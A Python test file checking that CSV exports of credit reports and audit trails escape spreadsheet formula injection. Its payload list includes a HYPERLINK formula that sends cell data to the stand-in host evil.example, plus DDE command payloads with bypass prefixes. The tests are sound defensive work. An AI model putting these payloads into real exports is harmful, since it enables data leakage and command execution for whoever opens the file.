"""Cells that a spreadsheet would execute, in whatever tables we hand out."""

import csv
from io import StringIO

import pytest

from entrypoints.http.credit_reports import table

FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1;"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_report_of_credits_carries_no_formula(formula):
    answered = table("usage", ("member", "captured"), [(formula, 5), (f'x",{formula}', -5)])
    head, first, second = csv.reader(StringIO(answered.content.decode(), newline=""))
    assert head == ["member", "captured"]
    assert first == [f"'{formula}", "5"]
    # A quote does not end a cell, and a number is one.
    assert second == [f'x",{formula}', "-5"]


@pytest.mark.parametrize("path", ["/v1/credits/usage", "/v1/credits/grants"])
def test_the_reports_that_are_served_go_through_it(site, ada, path, monkeypatch):
    """By every door: what the tables are made of is replaced by formulas."""
    from entrypoints.http import credit_reports

    ada.deploy("one")
    site.work_until_done()
    written = []
    monkeypatch.setattr(
        credit_reports, "harmless", lambda text: written.append(text) or "harmless"
    )
    rows = list(csv.reader(StringIO(ada.get(f"{path}?format=csv").text)))
    assert written
    assert "harmless" in rows[1]


def test_names_in_an_export_of_the_trail_are_no_formulas():
    from io import BytesIO

    from adapters.tables import Csv
    from application.ports.tables import Column, Kind

    columns = [Column(name="subject", kind=Kind.TEXT), Column(name="body", kind=Kind.JSON)]
    sink = BytesIO()
    draft = Csv().begin(sink, columns)
    for formula in FORMULAS:
        draft.add((formula, b'{"a":1}'))
    draft.close()
    _, *rows = csv.reader(StringIO(sink.getvalue().decode(), newline=""))
    assert [row[0] for row in rows] == [f"'{formula}" for formula in FORMULAS]
